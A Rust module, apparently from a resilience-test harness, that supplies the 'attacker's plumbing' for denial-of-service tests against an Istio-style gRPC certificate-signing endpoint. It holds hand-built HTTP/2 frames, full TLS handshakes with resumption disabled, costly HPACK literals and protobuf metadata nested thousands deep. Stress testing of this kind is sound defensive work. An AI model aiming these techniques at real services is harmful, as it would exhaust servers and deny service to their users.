//! The attacker's plumbing: TCP from spare loopback source addresses, TLS
//! (full handshakes, no session resumption), HTTP/2 through the `h2` client
//! where a conforming client can express the attack, HTTP/2 frames written by
//! hand where it cannot (a conforming client never sends an unterminated
//! header block or a header list over the peer's limit), the gRPC request
//! bytes, and a counter set every attack reports through.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::client::TlsStream;

/// The gRPC method every attack aims at.
pub const PATH: &str = "/istio.v1.auth.IstioCertificateService/CreateCertificate";

/// Named counters and gauges (with their peaks) that an attack updates as it
/// goes; read once the attack is over, even if it was cut off at its deadline.
#[derive(Default)]
pub struct Stats {
    inner: Mutex<StatsInner>,
}

#[derive(Default, Clone)]
pub struct StatsInner {
    pub counts: BTreeMap<String, u64>,
    /// name -> (current, peak)
    pub gauges: BTreeMap<String, (i64, i64)>,
    /// name -> largest value seen
    pub maxima: BTreeMap<String, u64>,
}

impl Stats {
    fn with<R>(&self, f: impl FnOnce(&mut StatsInner) -> R) -> R {
        // A poisoned lock only means a task panicked mid-update: keep counting.
        let mut g = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        f(&mut g)
    }

    pub fn add(&self, key: &str, n: u64) {
        self.with(|s| match s.counts.get_mut(key) {
            Some(v) => *v += n,
            None => {
                s.counts.insert(key.to_owned(), n);
            }
        });
    }

    pub fn inc(&self, key: &str) {
        self.add(key, 1);
    }

    /// Moves a gauge (e.g. connections currently open) and tracks its peak.
    pub fn gauge(&self, key: &str, delta: i64) {
        self.with(|s| {
            let g = s.gauges.entry(key.to_owned()).or_insert((0, 0));
            g.0 += delta;
            g.1 = g.1.max(g.0);
        });
    }

    pub fn max(&self, key: &str, v: u64) {
        self.with(|s| {
            let m = s.maxima.entry(key.to_owned()).or_insert(0);
            *m = (*m).max(v);
        });
    }

    pub fn snapshot(&self) -> StatsInner {
        self.with(|s| s.clone())
    }
}

/// A small deterministic PRNG (xorshift64*), for jitter.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// A duration uniformly in [lo, hi).
    pub fn between(&mut self, lo: Duration, hi: Duration) -> Duration {
        let span = (hi - lo).as_micros().max(1) as u64;
        lo + Duration::from_micros(self.next() % span)
    }
}

/// Opens the attacker's connections: TCP from 127.0.0.2, 127.0.0.3, … in
/// turn (so the attack neither runs out of ephemeral ports nor shares the
/// legitimate clients' source address, 127.0.0.1), TLS with ALPN h2 and
/// without session resumption (every handshake is a full one for the server).
pub struct Dialer {
    pub addr: SocketAddr,
    sources: Vec<Ipv4Addr>,
    next: AtomicUsize,
    pub tls: Arc<rustls::ClientConfig>,
    pub server_name: ServerName<'static>,
    /// `:authority` for hand-written requests.
    pub authority: String,
}

impl Dialer {
    pub fn new(
        addr: SocketAddr,
        sources: usize,
        mut tls: rustls::ClientConfig,
        server_name: &str,
    ) -> Result<Self, String> {
        tls.resumption = rustls::client::Resumption::disabled();
        tls.alpn_protocols = vec![b"h2".to_vec()];
        let sources = (0..sources.clamp(1, 250))
            .map(|i| Ipv4Addr::new(127, 0, 0, 2 + i as u8))
            .collect();
        Ok(Self {
            addr,
            sources,
            next: AtomicUsize::new(0),
            tls: Arc::new(tls),
            server_name: ServerName::try_from(server_name.to_owned())
                .map_err(|e| format!("server name {server_name:?}: {e}"))?,
            authority: server_name.to_owned(),
        })
    }

    /// A TCP connection, Nagle off.
    pub async fn tcp(&self) -> std::io::Result<TcpStream> {
        let i = self.next.fetch_add(1, Ordering::Relaxed) % self.sources.len();
        let socket = TcpSocket::new_v4()?;
        if self.addr.ip().is_loopback() {
            socket.bind(SocketAddr::new(self.sources[i].into(), 0))?;
        }
        let tcp = socket.connect(self.addr).await?;
        tcp.set_nodelay(true)?;
        Ok(tcp)
    }

    /// A TLS connection (ALPN h2).
    pub async fn tls(&self) -> std::io::Result<TlsStream<TcpStream>> {
        let tcp = self.tcp().await?;
        tokio_rustls::TlsConnector::from(self.tls.clone())
            .connect(self.server_name.clone(), tcp)
            .await
    }

    /// An HTTP/2 connection through the `h2` client. The caller must drive
    /// the returned connection (it answers the server's PINGs and SETTINGS).
    pub async fn h2(
        &self,
    ) -> Result<
        (
            h2::client::SendRequest<Bytes>,
            h2::client::Connection<TlsStream<TcpStream>, Bytes>,
        ),
        String,
    > {
        let tls = self.tls().await.map_err(|e| io_kind(&e))?;
        h2::client::Builder::new()
            .initial_window_size(1 << 20)
            .initial_connection_window_size(1 << 24)
            .max_concurrent_reset_streams(4096)
            .handshake(tls)
            .await
            .map_err(|e| h2_error(&e))
    }

    /// A gRPC request head for `CreateCertificate`.
    pub fn grpc_request(&self, token: Option<&str>) -> http::Request<()> {
        let mut b = http::Request::builder()
            .method("POST")
            .uri(format!("https://{}{PATH}", self.authority))
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        if let Some(t) = token {
            b = b.header("authorization", format!("Bearer {t}"));
        }
        // Every part is a constant or a pool token (checked printable by
        // `load::prepare`); an impossible failure still yields a request.
        b.body(()).unwrap_or_else(|_| http::Request::new(()))
    }
}

/// Short, stable names for I/O errors, for counting.
pub fn io_kind(e: &std::io::Error) -> String {
    format!("io {:?}", e.kind())
}

/// Short, stable names for h2 errors, for counting.
pub fn h2_error(e: &h2::Error) -> String {
    if e.is_go_away() {
        format!(
            "GOAWAY {} from {}",
            e.reason().map_or("?".into(), |r| format!("{r:?}")),
            if e.is_remote() { "server" } else { "client" }
        )
    } else if e.is_reset() {
        format!(
            "RST_STREAM {} from {}",
            e.reason().map_or("?".into(), |r| format!("{r:?}")),
            if e.is_remote() { "server" } else { "client" }
        )
    } else if let Some(io) = e.get_io() {
        io_kind(io)
    } else {
        match e.reason() {
            Some(r) => format!("h2 {r:?}"),
            None => "h2 error".into(),
        }
    }
}

/// gRPC status code names.
pub fn grpc_code_name(code: &str) -> String {
    let name = match code {
        "0" => "OK",
        "1" => "CANCELLED",
        "2" => "UNKNOWN",
        "3" => "INVALID_ARGUMENT",
        "4" => "DEADLINE_EXCEEDED",
        "5" => "NOT_FOUND",
        "6" => "ALREADY_EXISTS",
        "7" => "PERMISSION_DENIED",
        "8" => "RESOURCE_EXHAUSTED",
        "9" => "FAILED_PRECONDITION",
        "10" => "ABORTED",
        "11" => "OUT_OF_RANGE",
        "12" => "UNIMPLEMENTED",
        "13" => "INTERNAL",
        "14" => "UNAVAILABLE",
        "15" => "DATA_LOSS",
        "16" => "UNAUTHENTICATED",
        other => return format!("grpc-status {other}"),
    };
    name.to_owned()
}

/// Reads a gRPC answer to the end and names its outcome: the gRPC status
/// (from a trailers-only response or the trailers), an HTTP status other
/// than 200, or the h2 error that ended the stream.
pub async fn grpc_outcome<F>(resp: F) -> String
where
    F: std::future::Future<Output = Result<http::Response<h2::RecvStream>, h2::Error>>,
{
    let resp = match resp.await {
        Ok(r) => r,
        Err(e) => return h2_error(&e),
    };
    if resp.status() != http::StatusCode::OK {
        return format!("HTTP {}", resp.status().as_u16());
    }
    if let Some(s) = resp.headers().get("grpc-status") {
        return grpc_code_name(s.to_str().unwrap_or("?"));
    }
    let mut body = resp.into_body();
    while let Some(chunk) = body.data().await {
        match chunk {
            Ok(b) => {
                let _ = body.flow_control().release_capacity(b.len());
            }
            Err(e) => return h2_error(&e),
        }
    }
    match body.trailers().await {
        Ok(Some(t)) => t.get("grpc-status").map_or("no grpc-status".into(), |s| {
            grpc_code_name(s.to_str().unwrap_or("?"))
        }),
        Ok(None) => "no trailers".into(),
        Err(e) => h2_error(&e),
    }
}

/// Sends `data` on an h2 stream within the flow-control window the server
/// grants (so the attacker never buffers more than it may send), ending the
/// stream with the last byte when `end`. Returns the bytes handed to h2.
pub async fn send_body(
    stream: &mut h2::SendStream<Bytes>,
    mut data: Bytes,
    end: bool,
) -> Result<usize, String> {
    let mut sent = 0;
    while !data.is_empty() {
        stream.reserve_capacity(data.len());
        let cap = match std::future::poll_fn(|cx| stream.poll_capacity(cx)).await {
            Some(Ok(c)) => c,
            Some(Err(e)) => return Err(h2_error(&e)),
            None => return Err("stream closed".into()),
        };
        if cap == 0 {
            continue;
        }
        let chunk = data.split_to(cap.min(data.len()));
        sent += chunk.len();
        stream
            .send_data(chunk, end && data.is_empty())
            .map_err(|e| h2_error(&e))?;
    }
    if data.is_empty() && sent == 0 && end {
        stream
            .send_data(Bytes::new(), true)
            .map_err(|e| h2_error(&e))?;
    }
    Ok(sent)
}

// --- gRPC and protobuf bytes ------------------------------------------------------

/// A gRPC length-prefixed message (uncompressed).
pub fn grpc_frame(msg: &[u8]) -> Bytes {
    let mut b = BytesMut::with_capacity(msg.len() + 5);
    b.put_u8(0);
    b.put_u32(msg.len() as u32);
    b.extend_from_slice(msg);
    b.freeze()
}

fn put_varint(out: &mut Vec<u8>, mut v: u64) {
    while v >= 0x80 {
        out.push((v as u8) | 0x80);
        v >>= 7;
    }
    out.push(v as u8);
}

/// A length-delimited protobuf field.
fn put_bytes_field(out: &mut Vec<u8>, field: u32, bytes: &[u8]) {
    put_varint(out, u64::from(field << 3 | 2));
    put_varint(out, bytes.len() as u64);
    out.extend_from_slice(bytes);
}

/// `IstioCertificateRequest { csr, validity_duration }`, hand-encoded, with
/// `extra` appended verbatim (further fields).
pub fn certificate_request(csr: &str, ttl: i64, extra: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(csr.len() + 16 + extra.len());
    put_bytes_field(&mut out, 1, csr.as_bytes());
    put_varint(&mut out, 3 << 3);
    put_varint(&mut out, ttl as u64);
    out.extend_from_slice(extra);
    out
}

/// Field 4 (`metadata`, a `google.protobuf.Struct`) nested `depth` deep:
/// `Struct { fields: { "a": Value { struct_value: Struct { … } } } }`.
/// Each level is a `fields` map entry (Struct field 1: key 1, value 2) whose
/// `Value` holds the next `Struct` in `struct_value` (field 5).
pub fn nested_metadata(depth: usize) -> Vec<u8> {
    let mut inner: Vec<u8> = Vec::new(); // the innermost, empty Struct
    for _ in 0..depth {
        let mut value = Vec::with_capacity(inner.len() + 4);
        put_bytes_field(&mut value, 5, &inner);
        let mut entry = Vec::with_capacity(value.len() + 8);
        put_bytes_field(&mut entry, 1, b"a");
        put_bytes_field(&mut entry, 2, &value);
        let mut s = Vec::with_capacity(entry.len() + 4);
        put_bytes_field(&mut s, 1, &entry);
        inner = s;
    }
    let mut field = Vec::with_capacity(inner.len() + 4);
    put_bytes_field(&mut field, 4, &inner);
    field
}

/// The deepest `nested_metadata` whose request (with `csr`) stays within
/// `max_bytes`, and that request.
pub fn deepest_request_within(csr: &str, max_bytes: usize) -> (usize, Vec<u8>) {
    // Each level costs ~12-16 bytes; start from an estimate and step down.
    let base = certificate_request(csr, 3600, &[]).len();
    let mut depth = max_bytes.saturating_sub(base) / 12;
    loop {
        let req = certificate_request(csr, 3600, &nested_metadata(depth));
        if req.len() <= max_bytes || depth == 0 {
            return (depth, req);
        }
        depth -= depth / 50 + 1;
    }
}

// --- HTTP/2 frames by hand ---------------------------------------------------------

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const DATA: u8 = 0x0;
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const PING: u8 = 0x6;
pub const GOAWAY: u8 = 0x7;
pub const WINDOW_UPDATE: u8 = 0x8;
pub const CONTINUATION: u8 = 0x9;
pub const END_STREAM: u8 = 0x1;
pub const ACK: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
/// RST_STREAM / GOAWAY error code CANCEL.
pub const CANCEL: u32 = 0x8;
/// The largest frame payload a peer must accept (SETTINGS_MAX_FRAME_SIZE default).
pub const MAX_FRAME: usize = 16_384;

/// Appends one frame.
pub fn frame(out: &mut Vec<u8>, ty: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(ty);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK integer with an N-bit prefix; `first` holds the pattern bits.
fn hpack_int(out: &mut Vec<u8>, mut v: usize, prefix_bits: u8, first: u8) {
    let max = (1usize << prefix_bits) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// A header field as "literal without indexing, new name", no Huffman: the
/// server must decode every byte, and nothing lands in its dynamic table.
pub fn hpack_literal(out: &mut Vec<u8>, name: &str, value: &[u8]) {
    out.push(0x00);
    hpack_int(out, name.len(), 7, 0);
    out.extend_from_slice(name.as_bytes());
    hpack_int(out, value.len(), 7, 0);
    out.extend_from_slice(value);
}

/// The header block of a gRPC `CreateCertificate` call.
pub fn request_block(authority: &str, token: Option<&str>) -> Vec<u8> {
    let mut b = Vec::with_capacity(256);
    hpack_literal(&mut b, ":method", b"POST");
    hpack_literal(&mut b, ":scheme", b"https");
    hpack_literal(&mut b, ":path", PATH.as_bytes());
    hpack_literal(&mut b, ":authority", authority.as_bytes());
    hpack_literal(&mut b, "content-type", b"application/grpc");
    hpack_literal(&mut b, "te", b"trailers");
    if let Some(t) = token {
        hpack_literal(&mut b, "authorization", format!("Bearer {t}").as_bytes());
    }
    b
}

/// A hand-driven HTTP/2 connection over TLS. A reader task answers the
/// server's SETTINGS and PINGs (as any client must, so the connection is not
/// dropped for that) and counts what the server sends; the attack writes
/// whatever frames it likes through [`RawConn::write`].
pub struct RawConn {
    writer: Arc<tokio::sync::Mutex<WriteHalf<TlsStream<TcpStream>>>>,
    closed: tokio::sync::watch::Receiver<bool>,
    reader: tokio::task::JoinHandle<()>,
}

impl RawConn {
    /// Connects, sends the preface, SETTINGS (push off, stream windows at
    /// the maximum) and a connection WINDOW_UPDATE, so the server never
    /// waits on the attacker's flow control.
    pub async fn open(dialer: &Dialer, stats: Arc<Stats>) -> Result<Self, String> {
        let tls = dialer.tls().await.map_err(|e| io_kind(&e))?;
        let (r, mut w) = tokio::io::split(tls);
        let mut hello = PREFACE.to_vec();
        let mut settings = Vec::new();
        settings.extend_from_slice(&2u16.to_be_bytes()); // ENABLE_PUSH
        settings.extend_from_slice(&0u32.to_be_bytes());
        settings.extend_from_slice(&4u16.to_be_bytes()); // INITIAL_WINDOW_SIZE
        settings.extend_from_slice(&0x7fff_ffffu32.to_be_bytes());
        frame(&mut hello, SETTINGS, 0, 0, &settings);
        frame(
            &mut hello,
            WINDOW_UPDATE,
            0,
            0,
            &(0x7fff_ffffu32 - 65_535).to_be_bytes(),
        );
        w.write_all(&hello).await.map_err(|e| io_kind(&e))?;
        let writer = Arc::new(tokio::sync::Mutex::new(w));
        let (tx, closed) = tokio::sync::watch::channel(false);
        let reader = tokio::spawn(read_frames(r, writer.clone(), stats, tx));
        Ok(Self {
            writer,
            closed,
            reader,
        })
    }

    /// Writes raw bytes (frames); Err once the connection is gone.
    pub async fn write(&self, bytes: &[u8]) -> Result<(), String> {
        if self.is_closed() {
            return Err("closed".into());
        }
        let mut w = self.writer.lock().await;
        w.write_all(bytes).await.map_err(|e| io_kind(&e))
    }

    /// True once the server has closed the connection (EOF or error).
    pub fn is_closed(&self) -> bool {
        *self.closed.borrow()
    }
}

impl Drop for RawConn {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

/// The reader half of a [`RawConn`]: acknowledges SETTINGS and PINGs and
/// counts the server's frames (GOAWAY and RST_STREAM by error code).
async fn read_frames(
    mut r: ReadHalf<TlsStream<TcpStream>>,
    writer: Arc<tokio::sync::Mutex<WriteHalf<TlsStream<TcpStream>>>>,
    stats: Arc<Stats>,
    closed: tokio::sync::watch::Sender<bool>,
) {
    let mut head = [0u8; 9];
    let mut payload = Vec::new();
    let end = loop {
        if let Err(e) = r.read_exact(&mut head).await {
            break if e.kind() == std::io::ErrorKind::UnexpectedEof {
                "EOF".to_owned()
            } else {
                io_kind(&e)
            };
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (ty, flags) = (head[3], head[4]);
        payload.resize(len, 0);
        if let Err(e) = r.read_exact(&mut payload).await {
            break io_kind(&e);
        }
        match ty {
            // Acknowledged from a task of its own: the attack may hold the
            // writer while the server pushes back, and this loop must keep
            // reading meanwhile.
            SETTINGS if flags & ACK == 0 => {
                let mut ack = Vec::with_capacity(9);
                frame(&mut ack, SETTINGS, ACK, 0, &[]);
                let w = writer.clone();
                tokio::spawn(async move { w.lock().await.write_all(&ack).await });
            }
            PING if flags & ACK == 0 => {
                let mut ack = Vec::with_capacity(17);
                frame(&mut ack, PING, ACK, 0, &payload);
                let w = writer.clone();
                tokio::spawn(async move { w.lock().await.write_all(&ack).await });
            }
            GOAWAY if payload.len() >= 8 => {
                let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                stats.inc(&format!("server GOAWAY {}", h2_reason(code)));
            }
            RST_STREAM if payload.len() >= 4 => {
                let code = u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                stats.inc(&format!("server RST_STREAM {}", h2_reason(code)));
            }
            HEADERS => stats.inc("server HEADERS frames"),
            _ => {}
        }
    };
    stats.inc(&format!("connection ended by server ({end})"));
    let _ = closed.send(true);
}

/// HTTP/2 error code names.
pub fn h2_reason(code: u32) -> String {
    format!("{:?}", h2::Reason::from(code))
}

#[cfg(test)]
mod tests {
    use super::*;
    use prost::Message;

    #[test]
    fn hand_encoded_request_decodes_and_nesting_hits_the_decoder_limit() {
        let shallow = certificate_request("CSR", 3600, &nested_metadata(5));
        let req = meshsign::proto::IstioCertificateRequest::decode(shallow.as_slice())
            .expect("a shallow request decodes");
        assert_eq!(req.csr, "CSR");
        assert_eq!(req.validity_duration, 3600);
        let mut depth = 0;
        let mut s = req.metadata.expect("metadata");
        while let Some(v) = s.fields.get("a").cloned() {
            match v.kind {
                Some(prost_types::value::Kind::StructValue(inner)) => s = inner,
                other => panic!("unexpected {other:?}"),
            }
            depth += 1;
        }
        assert_eq!(depth, 5);

        let (depth, deep) = deepest_request_within("CSR", 64 * 1024);
        assert!(depth > 4000, "depth {depth}");
        assert!(deep.len() <= 64 * 1024);
        assert!(meshsign::proto::IstioCertificateRequest::decode(deep.as_slice()).is_err());
    }

    #[test]
    fn frames_and_hpack() {
        let mut out = Vec::new();
        frame(&mut out, RST_STREAM, 0, 3, &CANCEL.to_be_bytes());
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        let mut h = Vec::new();
        hpack_literal(&mut h, "te", &[b'v'; 200]);
        // 0x00, name length 2, "te", value length 200 = 127 + 73 (prefix full).
        assert_eq!(&h[..6], &[0x00, 2, b't', b'e', 0x7f, 73]);
        assert_eq!(h.len(), 6 + 200);
    }
}
